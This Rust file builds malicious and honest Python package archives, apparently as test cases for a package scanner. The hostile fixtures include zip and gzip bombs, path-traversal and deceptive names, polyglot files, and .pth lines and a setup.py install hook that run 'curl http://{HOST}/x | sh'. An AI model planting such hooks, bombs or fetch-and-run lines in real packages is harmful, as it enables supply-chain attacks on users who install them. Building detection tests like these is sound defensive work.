//! Bombs, names, polyglots, wheels.

use crate::case::*;
use crate::craft::*;

pub(crate) fn bombs() -> Vec<Case> {
    let mut cases = Cases::new(Row::Bombs);
    let zeros = |mib: usize| vec![0u8; mib << 20];
    let evil = payload();

    // One member that grows.
    let mut told = |name: &str, file: &'static str, bytes: Vec<u8>| cases.told(name, file, bytes, "");
    let sdist_bomb = |mib: usize| sdist_with(&[("demo/data.bin", &zeros(mib))]);
    told("zeros-tar-gz", SDIST, sdist_bomb(200));
    told("zeros-wheel", WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/data.bin", &zeros(200))]).bytes());
    told("zeros-python", SDIST, sdist_with(&[("demo/data.py", &vec![b'#'; 140 << 20])]));
    told(
        "zeros-bzip2",
        SDIST,
        bzip2(&tar(&[sdist_parts(SETUP), vec![file("demo-1.0/data.bin", &zeros(200))]].concat())),
    );
    // Archives in archives.
    let kernel = Zip::of(vec![Entry::deflated("0.bin", &zeros(100))]).bytes();
    let many = |inner: &[u8], count: usize| {
        let entries = (0..count).map(|n| Entry::deflated(&format!("{n}.zip"), &[inner, &[n as u8]].concat())).collect();
        Zip::of(entries).bytes()
    };
    let second = many(&kernel, 10);
    let third = many(&second, 10);
    told("nested-two", SDIST, sdist_with(&[("demo/data.zip", &second)]));
    told("nested-three", SDIST, sdist_with(&[("demo/data.zip", &third)]));
    told("nested-wheel", WHEEL, wheel_zip(&[("demo/__init__.py", CLEAN), ("demo/data.zip", &third)]).bytes());
    told("gzip-of-gzip", SDIST, sdist_with(&[("demo/data.gz", &gzip(&gzip(&zeros(150))))]));
    told("gzip-alone", SDIST, gzip(&zeros(300)));
    told("gzip-thrice-alone", SDIST, gzip(&gzip(&gzip(&zeros(300)))));
    let mut deep = evil.clone();
    for depth in 0..12 {
        deep = Zip::of(vec![Entry::stored(&format!("level{depth}.zip"), &deep)]).bytes();
    }
    told("deep-zips", SDIST, sdist_with(&[("demo/data.zip", &deep)]));
    let mut deep = tar(&[file("setup.py", &evil)]);
    for _ in 0..40 {
        deep = gzip(&deep);
    }
    told("deep-gzips", SDIST, sdist_with(&[("demo/data.gz", &deep)]));
    told("deep-gzips-alone", SDIST, deep);
    // Floods of members.
    let flood: Vec<Entry> = (0..60_000).map(|n| Entry::stored(&format!("demo/{n}.txt"), b"")).collect();
    told("sixty-thousand-entries", WHEEL, Zip::of(flood).bytes());
    let flood: Vec<Vec<u8>> = (0..60_000).map(|n| TarHead::new(&format!("demo-1.0/{n}"), b'0', 0).bytes()).collect();
    told("sixty-thousand-headers", SDIST, sdist_and(&flood));
    let flood: Vec<Vec<u8>> = (0..60_000).map(|n| hardlink(&format!("demo-1.0/{n}"), "demo-1.0/PKG-INFO")).collect();
    told("sixty-thousand-links", SDIST, sdist_and(&flood));
    let big = file("demo-1.0/big.txt", &vec![b'a'; 8 << 20]);
    let copies: Vec<Vec<u8>> =
        (0..2000).map(|n| hardlink(&format!("demo-1.0/demo/{n}.txt"), "demo-1.0/big.txt")).collect();
    told("hard-link-copies", SDIST, sdist_and(&[vec![big], copies].concat()));
    let long = "a".repeat(3 << 20);
    told("gnu-name-of-three-mib", SDIST, sdist_and(&[gnu_long(b'L', &long), file("demo-1.0/x.py", CLEAN)]));
    told("pax-path-of-three-mib", SDIST, sdist_and(&[pax(b'x', &[("path", &long)]), file("demo-1.0/x.py", CLEAN)]));
    let records: Vec<u8> = (0..200_000).flat_map(|n| pax_record(&format!("k{n}"), b"v")).collect();
    told(
        "pax-two-hundred-thousand-records",
        SDIST,
        sdist_and(&[pax_raw(b'x', &records), file("demo-1.0/x.py", CLEAN)]),
    );
    let nested: Vec<Vec<u8>> = (0..5000).map(|_| pax(b'x', &[("comment", "x")])).collect();
    told("pax-before-pax", SDIST, sdist_and(&[nested, vec![file("demo-1.0/x.py", CLEAN)]].concat()));
    let many: Vec<u8> = gzip(b"").repeat(200_000);
    told("empty-gzip-members", SDIST, [gzip(&tar(&sdist_parts(SETUP))), many].concat());
    // A quine: an archive that holds itself would need care; one that holds its twin is enough for a naive reader.
    let twin = Zip::of(vec![
        Entry::stored("a.zip", &kernel),
        Entry::stored("b.zip", &kernel),
        Entry::stored("c.zip", &kernel),
    ])
    .bytes();
    told("same-bomb-thrice", SDIST, sdist_with(&[("demo/data.zip", &twin)]));

    // A payload beside or below the bomb is seen when it comes first, or when the limit is not reached.
    let mut seen = |name: &str, file: &'static str, bytes: Vec<u8>| cases.seen(name, file, bytes, "");
    seen("code-then-bomb", SDIST, {
        let bomb = file("demo-1.0/demo/zeros.bin", &zeros(200));
        tar_gz(&[sdist_parts(&setup_with_payload()), vec![bomb]].concat())
    });
    let inner = wheel_zip(&[("demo/__init__.py", &evil)]).bytes();
    seen("nested-wheel-with-code", SDIST, sdist_with(&[("demo/inner.whl", &inner)]));
    let inner = sdist_setup(&setup_with_payload());
    seen("nested-sdist-with-code", SDIST, sdist_with(&[("demo/inner.tar.gz", &inner)]));
    seen("nested-thrice-with-code", SDIST, {
        let second = Zip::of(vec![Entry::deflated("inner.tar.gz", &inner)]).bytes();
        sdist_with(&[("demo/data.bin", &tar(&[file("second.zip", &second)]))])
    });
    seen(
        "nested-in-wheel-with-code",
        WHEEL,
        wheel_zip(&[
            ("demo/__init__.py", CLEAN),
            ("demo/inner.dat", &Zip::of(vec![Entry::deflated("run.py", &evil)]).bytes()),
        ])
        .bytes(),
    );

    let mut clear = |name: &str, file: &'static str, bytes: Vec<u8>| cases.clear(name, file, bytes);
    clear("honest-zeros-ten-mib", SDIST, sdist_bomb(10));
    clear("honest-zeros-in-tests", SDIST, sdist_with(&[("tests/zeros.bin", &zeros(20))]));
    clear("honest-nested-wheel", SDIST, sdist_with(&[("tests/demo-1.0-py3-none-any.whl", &wheel().bytes())]));
    clear("honest-bundled-wheel", SDIST, sdist_with(&[("demo/_bundled/demo-1.0-py3-none-any.whl", &wheel().bytes())]));
    clear("honest-nested-data", SDIST, sdist_with(&[("demo/data.json.gz", &gzip(b"{\"a\": 1}\n"))]));
    clear("honest-broken-fixture", SDIST, sdist_with(&[("tests/data/broken.zip", &wheel().bytes()[..300])]));
    clear("honest-encrypted-fixture", SDIST, {
        let sealed =
            Zip::of(vec![Entry::stored("a.txt", b"xxxxxxxxxxxxxxxxxxxx").each(|head| head.flags |= 1)]).bytes();
        sdist_with(&[("tests/data/encrypted.zip", &sealed)])
    });
    let files: Vec<Vec<u8>> = (0..3000).map(|n| file(&format!("demo-1.0/demo/data/{n}.txt"), b"x\n")).collect();
    clear("honest-three-thousand-files", SDIST, sdist_and(&files));
    clear("honest-deep-folders", SDIST, sdist_with(&[("demo/a/b/c/d/e/f/g/h/i/j/k/l.py", CLEAN)]));
    cases.all
}

pub(crate) fn names() -> Vec<Case> {
    let mut cases = Cases::new(Row::Names);
    let evil = payload();
    for (name, path, rule) in [
        ("climb", "../evil.py", "archive-path-escape"),
        ("climb-deep", "demo/../../../evil.py", "archive-path-escape"),
        ("absolute", "/etc/cron.d/evil.py", "archive-path-escape"),
        ("backslashes", "..\\..\\evil.py", "archive-path-escape"),
        ("drive", "C:\\evil.py", "archive-path-escape"),
        ("drive-relative", "C:evil.py", "archive-path-escape"),
        ("unc", "\\\\server\\share\\evil.py", "archive-path-escape"),
        ("unc-slashes", "//server/share/evil.py", "archive-path-escape"),
        ("device-path", "\\\\?\\C:\\evil.py", "archive-path-escape"),
        ("stream", "demo/core.py::$DATA", ""),
        ("stream-named", "demo/core.py:evil.py", ""),
        ("bidi", "demo/\u{202e}yp.eroc", "archive-deceptive-name"),
        ("bidi-isolate", "demo/\u{2067}core.py", "archive-deceptive-name"),
        ("zero-width", "demo/__init\u{200b}__.py", "archive-deceptive-name"),
        ("zero-width-joiner", "demo/co\u{200d}re.py", "archive-deceptive-name"),
        ("byte-order-mark", "\u{feff}setup.py", "archive-deceptive-name"),
        ("tags", "demo/core\u{e0041}.py", "archive-deceptive-name"),
        ("escape-sequence", "demo/\u{1b}[2Kcore.py", "archive-deceptive-name"),
        ("newline", "demo/core.py\nREADME", "archive-deceptive-name"),
        ("carriage-return", "demo/core.py\rREADME", "archive-deceptive-name"),
        ("backspace", "demo/x\u{8}core.py", "archive-deceptive-name"),
        ("c1-control", "demo/\u{9b}31mcore.py", "archive-deceptive-name"),
        ("delete", "demo/core\u{7f}.py", "archive-deceptive-name"),
        ("device-name", "demo/con.txt.py", ""),
        ("device-aux", "aux", ""),
        ("trailing-dot", "demo/core.py.", ""),
        ("trailing-space", "demo/core.py ", ""),
        ("homoglyph-folder", "dеmo/__init__.py", ""),
        ("markup", "demo/<script>alert(1)</script>.py", ""),
        ("formula", "=cmd|' /C calc'!A0.py", ""),
    ] {
        let zip = wheel().and(Entry::deflated(path, &evil));
        cases.seen(format!("wheel-{name}"), WHEEL, zip.bytes(), rule);
        let inside = if path.starts_with(['/', '\\']) || path.starts_with("..") || path.starts_with("C:") {
            path.to_owned()
        } else {
            format!("demo-1.0/{path}")
        };
        let parts = [pax(b'x', &[("path", &inside)]), file("demo-1.0/x", &evil)];
        cases.seen(format!("sdist-{name}"), SDIST, sdist_and(&parts), rule);
    }
    // Two names for one place.
    for (name, one, other) in [
        ("case", "demo/core.py", "demo/Core.py"),
        ("case-folder", "demo/core.py", "Demo/core.py"),
        ("nfc", "demo/caf\u{e9}.py", "demo/cafe\u{301}.py"),
        ("nfkc", "demo/file.py", "demo/\u{fb01}le.py"),
        ("fullwidth", "demo/core.py", "demo/\u{ff43}ore.py"),
        ("dot-slash", "demo/core.py", "demo/./core.py"),
        ("double-slash", "demo/core.py", "demo//core.py"),
        ("backslash", "demo/core.py", "demo\\core.py"),
        ("leading-dot-slash", "demo/core.py", "./demo/core.py"),
        ("parent", "demo/core.py", "demo/x/../core.py"),
        ("trailing-dot-pair", "demo/core.py", "demo/core.py."),
        ("turkish", "demo/i.py", "demo/İ.py"),
        ("sharp-s", "demo/strasse.py", "demo/straße.py"),
    ] {
        let zip = wheel().and(Entry::deflated(one, CLEAN)).and(Entry::deflated(other, &evil));
        cases.seen(format!("collision-{name}"), WHEEL, zip.bytes(), "");
    }
    // Too long to be a name.
    for (name, path) in [
        ("part-of-300", format!("demo/{}.py", "a".repeat(300))),
        ("parts-100", format!("{}core.py", "d/".repeat(100))),
        ("five-thousand", format!("demo/{}core.py", "folder/".repeat(700))),
    ] {
        let zip = wheel().and(Entry::deflated(&path, &evil));
        cases.seen(format!("long-{name}"), WHEEL, zip.bytes(), "");
        cases.seen(
            format!("long-sdist-{name}"),
            SDIST,
            sdist_and(&[pax(b'x', &[("path", &format!("demo-1.0/{path}"))]), file("demo-1.0/x", &evil)]),
            "",
        );
    }
    let bad = Entry::deflated("demo/x.py", &evil).each(|head| {
        (head.name, head.flags) = (b"demo/\xff\xfe.py".to_vec(), 0x800);
    });
    cases.seen("wheel-not-utf8", WHEEL, wheel().and(bad).bytes(), "");
    let empty = Entry::deflated("", &evil);
    cases.seen("wheel-empty-name", WHEEL, wheel().and(empty).bytes(), "");
    cases.seen("wheel-dot-name", WHEEL, wheel().and(Entry::deflated(".", &evil)).bytes(), "");

    for (name, path) in [
        ("unicode", "demo/docs/résumé-日本語.txt"),
        ("spaces", "demo/data/a file with spaces (1).txt"),
        ("dots", "demo/data/..hidden.txt"),
        ("dotfile", "demo/.gitignore"),
        ("emoji", "demo/data/☕.txt"),
        ("arabic", "demo/data/مثال.txt"),
        ("colon", "demo/data/12:30.txt"),
        (
            "long-part",
            "demo/data/this_is_a_rather_long_file_name_as_test_generators_like_to_write_them_when_left_alone.txt",
        ),
        ("plus", "demo/data/c++.txt"),
        ("com-name", "demo/com/example.txt"),
        ("version", "demo/data/v1.0/..a..b.txt"),
        ("emoji-sequence", "demo/data/❤️.txt"),
    ] {
        let parts = [
            pax(b'x', &[("path", &format!("demo-1.0/{path}"))]),
            file(
                &format!("demo-1.0/{}", path.escape_default().to_string().chars().take(60).collect::<String>()),
                b"text\n",
            ),
        ];
        let parts = if path.is_ascii() { vec![file(&format!("demo-1.0/{path}"), b"text\n")] } else { parts.to_vec() };
        cases.clear(format!("honest-sdist-{name}"), SDIST, sdist_and(&parts));
        cases.clear(
            format!("honest-wheel-{name}"),
            WHEEL,
            wheel_zip(&[("demo/__init__.py", CLEAN), (path, b"text\n")]).bytes(),
        );
    }
    cases.clear("honest-aux-module", SDIST, sdist_with(&[("demo/aux.py", CLEAN)]));
    cases.clear("honest-licence-case", SDIST, sdist_with(&[("docs/LICENSE", b"MIT\n"), ("docs/license", b"MIT\n")]));
    cases.all
}

pub(crate) fn polyglots() -> Vec<Case> {
    let mut cases = Cases::new(Row::Polyglots);
    let evil = payload();
    let setup = setup_with_payload();
    let inner = Zip::of(vec![Entry::deflated("__main__.py", &evil)]).bytes();
    // tar and zip in one: the index sees one, the installer the other.
    for (name, file, bytes) in [
        (
            "tar-then-zip",
            SDIST,
            [tar(&sdist_parts(SETUP)), Zip::of(vec![Entry::deflated("demo-1.0/setup.py", &setup)]).bytes()].concat(),
        ),
        (
            "gzip-then-zip",
            SDIST,
            [sdist_setup(SETUP), sdist_zip().and(Entry::deflated("demo-1.0/demo/t.py", &setup)).bytes()].concat(),
        ),
        ("wheel-behind-sdist", WHEEL, [sdist_setup(&setup), wheel().bytes()].concat()),
        ("tar-around-zip", WHEEL, tar(&[file_of("x", &wheel().bytes()), file_of("setup.py", &setup)])),
        ("zip-named-tar-gz", SDIST, wheel_zip(&[("demo/__init__.py", &evil)]).bytes()),
        ("sdist-named-wheel", WHEEL, sdist_setup(&setup)),
        (
            "pdf-then-zip",
            SDIST_ZIP,
            Zip {
                prefix: b"%PDF-1.4\n%\xe2\xe3\n1 0 obj\n".to_vec(),
                ..sdist_zip().and(Entry::deflated("demo-1.0/demo/t.py", &setup))
            }
            .bytes(),
        ),
        (
            "elf-then-zip",
            WHEEL,
            Zip { prefix: [b"\x7fELF".as_slice(), &[2; 200]].concat(), ..wheel_zip(&[("demo/__init__.py", &evil)]) }
                .bytes(),
        ),
        (
            "exe-then-zip",
            WHEEL,
            Zip { prefix: [b"MZ".as_slice(), &[1; 200]].concat(), ..wheel_zip(&[("demo/__init__.py", &evil)]) }.bytes(),
        ),
    ] {
        cases.seen(name, file, bytes, "");
    }
    // Code in other files: read by whoever opens them so.
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0\x90wS\xde".to_vec();
    let with = |name: &str, data: &[u8]| sdist_with(&[(name, data)]);
    for (name, path, data) in [
        ("python-is-zip", "demo/__main__.py", inner.clone()),
        ("zip-behind-python", "demo/tool.py", [&b"import sys\n"[..], &inner].concat()),
        ("zip-behind-text", "demo/notes.txt", [&b"Notes\n"[..], &inner].concat()),
        ("zip-behind-png", "demo/logo.png", [&png[..], &inner].concat()),
        ("python-is-png", "demo/logo.png", [&b"# PNG\n"[..], &evil].concat()),
        ("python-behind-png", "demo/logo.png", [&png[..], b"\n", &evil].concat()),
        ("zip-behind-gif", "demo/logo.gif", [&b"GIF89a\x01\0\x01\0\0\0\0;"[..], &inner].concat()),
        ("python-in-gif", "demo/logo.gif", [&b"GIF89a=1\n"[..], &evil].concat()),
        ("zip-behind-elf", "demo/lib.so", [&b"\x7fELF\x02\x01\x01\0"[..], &[0; 200], &inner].concat()),
        ("zip-behind-pe", "demo/tool.exe", [&b"MZ"[..], &[0; 200], &inner].concat()),
        ("zip-named-png", "demo/logo.png", inner.clone()),
        ("tar-named-txt", "demo/notes.txt", tar(&[file_of("run.py", &evil)])),
        ("gzip-named-txt", "demo/notes.txt", gzip(&evil)),
        ("xz-named-dat", "demo/x.dat", xz(&tar(&[file_of("run.py", &evil)]))),
        ("zip-behind-pdf", "demo/manual.pdf", [&b"%PDF-1.4\n"[..], &inner].concat()),
        ("zip-before-text", "demo/x.txt", [&inner[..], b"notes\n"].concat()),
        ("zip-behind-shell", "demo/run.sh", [&b"#!/bin/sh\nexec python3 \"$0\"\n"[..], &inner].concat()),
        ("zipapp", "demo/tool.pyz", [&b"#!/usr/bin/env python3\n"[..], &inner].concat()),
    ] {
        cases.seen(name, SDIST, with(path, &data), "");
        let path = path.to_owned();
        cases.seen(
            format!("wheel-{name}"),
            WHEEL,
            wheel_zip(&[("demo/__init__.py", CLEAN), (&path, &data)]).bytes(),
            "",
        );
    }
    for (name, magic) in [
        ("7z", &b"7z\xbc\xaf\x27\x1c\0\x04xxxxxxxxxxxxxxxxxxxx"[..]),
        ("rar", b"Rar!\x1a\x07\x01\0xxxxxxxxxxxxxxxx"),
        ("cab", b"MSCF\0\0\0\0xxxxxxxxxxxxxxxxxxxxxxxxxx"),
    ] {
        cases.told(format!("artifact-is-{name}"), SDIST, magic.to_vec(), "");
        cases.told(format!("holds-{name}"), SDIST, with(&format!("demo/data.{name}"), magic), "");
    }
    cases.told("artifact-is-text", SDIST, b"not an archive\n".to_vec(), "");
    cases.told("artifact-is-empty", SDIST, Vec::new(), "");
    cases.told("artifact-is-html", WHEEL, b"<html><body>404</body></html>".to_vec(), "");

    cases.clear("honest-png", SDIST, with("demo/logo.png", &[&png[..], b"\0\0\0\0IEND\xaeB`\x82"].concat()));
    let app = Zip::of(vec![Entry::deflated("__main__.py", CLEAN)]).bytes();
    cases.clear("honest-zipapp", SDIST, with("demo/tool.pyz", &[&b"#!/usr/bin/env python3\n"[..], &app].concat()));
    cases.clear(
        "honest-docx",
        SDIST,
        with(
            "docs/manual.docx",
            &Zip::of(vec![
                Entry::deflated("[Content_Types].xml", b"<Types/>"),
                Entry::deflated("word/document.xml", b"<w/>"),
            ])
            .bytes(),
        ),
    );
    cases.clear(
        "honest-npz",
        SDIST,
        with("tests/data.npz", &Zip::of(vec![Entry::stored("a.npy", b"\x93NUMPY\x01\0v\0")]).bytes()),
    );
    let egg = Zip::of(vec![
        Entry::deflated("EGG-INFO/PKG-INFO", METADATA),
        Entry::deflated("EGG-INFO/SOURCES.txt", b"demo/__init__.py\n"),
        Entry::deflated("EGG-INFO/zip-safe", b"\n"),
        Entry::deflated("EGG-INFO/top_level.txt", b"demo\n"),
        Entry::deflated("demo/__init__.py", CLEAN),
    ]);
    cases.clear("honest-egg", "demo-1.0-py3.11.egg", egg.bytes());
    cases.clear(
        "honest-lone-readme",
        SDIST,
        tar_gz(&[file("demo-1.0/README.md", b"# demo\n\nTo come.\n"), file("demo-1.0/PKG-INFO", METADATA)]),
    );
    cases.all
}

fn file_of(name: &str, data: &[u8]) -> Vec<u8> {
    file(name, data)
}

pub(crate) fn wheels() -> Vec<Case> {
    let mut cases = Cases::new(Row::Wheels);
    let evil = payload();
    let info = "demo-1.0.dist-info";
    let with_record = |files: &[(&str, &[u8])], record: &[u8]| {
        let mut entries: Vec<Entry> = files.iter().map(|(name, data)| Entry::deflated(name, data)).collect();
        entries.push(Entry::deflated(&format!("{info}/METADATA"), METADATA));
        entries.push(Entry::deflated(&format!("{info}/WHEEL"), WHEEL_FILE));
        if !record.is_empty() {
            entries.push(Entry::deflated(&format!("{info}/RECORD"), record));
        }
        Zip::of(entries).bytes()
    };
    let base: [(&str, &[u8]); 2] = [("demo/__init__.py", CLEAN), ("demo/tool.py", &evil)];
    let mut seen = |name: &str, bytes: Vec<u8>, rule| cases.seen(name, WHEEL, bytes, rule);
    let metadata = format!("{info}/METADATA");
    let wheel_name = format!("{info}/WHEEL");
    let listed: Vec<(&str, &[u8])> = vec![base[0], (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
    seen("record-unlisted", with_record(&base, &record(&listed)), "");
    let all: Vec<(&str, &[u8])> =
        vec![base[0], ("demo/tool.py", CLEAN), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
    seen("record-hash-differs", with_record(&base, &record(&all)), "");
    seen("record-missing", with_record(&base, b""), "");
    seen("record-empty", with_record(&base, b"\n"), "");
    seen("record-garbage", with_record(&base, b"\0\xff\"\"\",,,\n,,,"), "");
    seen(
        "record-absent-file",
        {
            let more: Vec<(&str, &[u8])> =
                vec![base[0], ("demo/ghost.py", CLEAN), (&metadata, METADATA), (&wheel_name, WHEEL_FILE)];
            with_record(&base, &record(&more))
        },
        "",
    );
    seen("record-weak-hash", with_record(&base, b"demo/__init__.py,md5=xxxx,1\ndemo/tool.py,md5=xxxx,1\n"), "");
    seen(
        "two-dist-infos",
        wheel_zip(&[
            ("demo/__init__.py", CLEAN),
            ("demo/tool.py", &evil),
            ("other-2.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: other\nVersion: 2.0\n"),
            ("other-2.0.dist-info/RECORD", b""),
        ])
        .bytes(),
        "",
    );
    seen(
        "other-name",
        wheel_zip(&[
            ("demo/__init__.py", &evil),
            ("demo-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: other\nVersion: 9.9\n"),
        ])
        .bytes(),
        "",
    );
    for (name, path) in [
        ("data-purelib", "demo-1.0.data/purelib/demo/tool.py"),
        ("data-platlib", "demo-1.0.data/platlib/demo/tool.py"),
        ("data-scripts", "demo-1.0.data/scripts/demo-run"),
        ("data-data", "demo-1.0.data/data/lib/python3.11/site-packages/demo_evil.py"),
        ("data-headers", "demo-1.0.data/headers/demo.py"),
        ("data-climbs", "demo-1.0.data/scripts/../../../evil.py"),
        ("other-data-folder", "other-2.0.data/purelib/evil.py"),
        ("sitecustomize", "sitecustomize.py"),
        ("usercustomize", "usercustomize.py"),
        ("shadows-stdlib", "json/__init__.py"),
        ("shadows-pip", "pip/__init__.py"),
        ("top-level-module", "demo_helper.py"),
        ("hidden-folder", ".demo/__init__.py"),
        ("inside-dist-info", "demo-1.0.dist-info/helper.py"),
    ] {
        let shebang = [b"#!python\n".as_slice(), &evil].concat();
        let data = if path.contains("scripts/") { &shebang } else { &evil };
        seen(name, wheel_zip(&[("demo/__init__.py", CLEAN), (path, data)]).bytes(), "");
    }
    let line = format!("import os; os.system('curl http://{HOST}/x | sh')\n");
    for (name, path) in [
        ("pth", "demo.pth"),
        ("pth-purelib", "demo-1.0.data/purelib/demo.pth"),
        ("pth-data", "demo-1.0.data/data/lib/python3.11/site-packages/demo.pth"),
    ] {
        seen(name, wheel_zip(&[("demo/__init__.py", CLEAN), (path, line.as_bytes())]).bytes(), "");
    }
    seen(
        "pth-behind-comments",
        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("{}{line}", "# demo\n".repeat(500)).as_bytes())])
            .bytes(),
        "",
    );
    seen(
        "pth-tab",
        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", line.replacen(' ', "\t", 1).as_bytes())]).bytes(),
        "",
    );
    seen(
        "pth-bare-return",
        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("demo\r{line}").as_bytes())]).bytes(),
        "",
    );
    seen(
        "pth-bom",
        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo.pth", format!("\u{feff}{line}").as_bytes())]).bytes(),
        "",
    );
    let backend = b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
    let mut source = |name: &str, bytes: Vec<u8>| cases.seen(name, SDIST, bytes, "");
    source("in-tree-backend", sdist_with(&[("pyproject.toml", backend), ("_build/backend.py", &evil)]));
    source(
        "in-tree-backend-package",
        sdist_with(&[("pyproject.toml", backend), ("_build/backend/__init__.py", &evil)]),
    );
    source("setup-imports-helper", {
        let setup = b"from setuptools import setup\nimport build_helper\nsetup(name='demo', version='1.0')\n";
        tar_gz(&[sdist_parts(setup), vec![file("demo-1.0/build_helper.py", &evil)]].concat())
    });
    source("setup-executes-text", {
        let setup =
            b"from setuptools import setup\nexec(open('data/notes.txt').read())\nsetup(name='demo', version='1.0')\n";
        tar_gz(&[sdist_parts(setup), vec![file("demo-1.0/data/notes.txt", &evil)]].concat())
    });
    source("cmdclass", {
        let setup = format!(
            "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
            class I(install):\n    def run(self):\n        os.system('curl http://{HOST}/x | sh')\n        install.run(self)\n\
            setup(name='demo', version='1.0', cmdclass={{'install': I}})\n"
        );
        sdist_setup(setup.as_bytes())
    });
    source("setup-in-upper-folder", tar_gz(&[sdist_parts(SETUP), vec![file("setup.py", &evil)]].concat()));
    source(
        "two-top-folders",
        tar_gz(
            &[sdist_parts(SETUP), vec![file("other-1.0/setup.py", &evil), file("other-1.0/PKG-INFO", METADATA)]]
                .concat(),
        ),
    );
    cases.told(
        "pyc-only",
        WHEEL,
        wheel_zip(&[
            ("demo/__init__.py", CLEAN),
            (
                "demo/core.pyc",
                &[&b"\xa7\x0d\r\n"[..], &[0; 12], b"\xe3\0\0\0\0\0os.system\0curl http://collect.invalid/x | sh\0"]
                    .concat(),
            ),
        ])
        .bytes(),
        "",
    );
    cases.told(
        "pyc-unchecked-cache",
        WHEEL,
        wheel_zip(&[
            ("demo/__init__.py", CLEAN),
            (
                "demo/__pycache__/__init__.cpython-311.pyc",
                &[&b"\xa7\x0d\r\n\x01"[..], &[0; 11], b"\xe3\0\0\0\0\0os.system\0curl http://collect.invalid/x | sh\0"]
                    .concat(),
            ),
        ])
        .bytes(),
        "",
    );

    let mut clear = |name: &str, bytes: Vec<u8>| cases.clear(name, WHEEL, bytes);
    clear("honest-record", wheel().bytes());
    clear("honest-record-no-hashes", with_record(&base[..1], b"demo/__init__.py,,\ndemo-1.0.dist-info/METADATA,,\ndemo-1.0.dist-info/WHEEL,,\ndemo-1.0.dist-info/RECORD,,\n"));
    clear("honest-record-crlf", {
        let text = String::from_utf8(record(&listed)).unwrap().replace('\n', "\r\n");
        with_record(&base[..1], text.as_bytes())
    });
    clear("honest-record-quoted", {
        let files: Vec<(&str, &[u8])> = vec![("demo/__init__.py", CLEAN), ("demo/a,b.txt", b"x\n")];
        let rows: Vec<(&str, &[u8])> = vec![
            ("demo/__init__.py", CLEAN),
            ("\"demo/a,b.txt\"", b"x\n"),
            (&metadata, METADATA),
            (&wheel_name, WHEEL_FILE),
        ];
        with_record(&files, &record(&rows))
    });
    clear("honest-editable", wheel_zip(&[("__editable__.demo-1.0.pth", b"/home/person/demo/src\n")]).bytes());
    clear("honest-namespace", wheel_zip(&[("demo/ns/__init__.py", CLEAN)]).bytes());
    clear(
        "honest-scripts",
        wheel_zip(&[
            ("demo/__init__.py", CLEAN),
            ("demo-1.0.data/scripts/demo", b"#!python\nimport demo\nprint(demo.VERSION)\n"),
            ("demo-1.0.data/data/share/demo/a.txt", b"a\n"),
        ])
        .bytes(),
    );
    clear(
        "honest-entry-points",
        wheel_zip(&[
            ("demo/__init__.py", CLEAN),
            ("demo/cli.py", b"def main():\n    print('demo')\n"),
            ("demo-1.0.dist-info/entry_points.txt", b"[console_scripts]\ndemo = demo.cli:main\n"),
            ("demo-1.0.dist-info/top_level.txt", b"demo\n"),
        ])
        .bytes(),
    );
    clear(
        "honest-signature",
        wheel_zip(&[("demo/__init__.py", CLEAN), ("demo-1.0.dist-info/licenses/LICENSE", b"MIT\n")]).bytes(),
    );
    cases.all
}
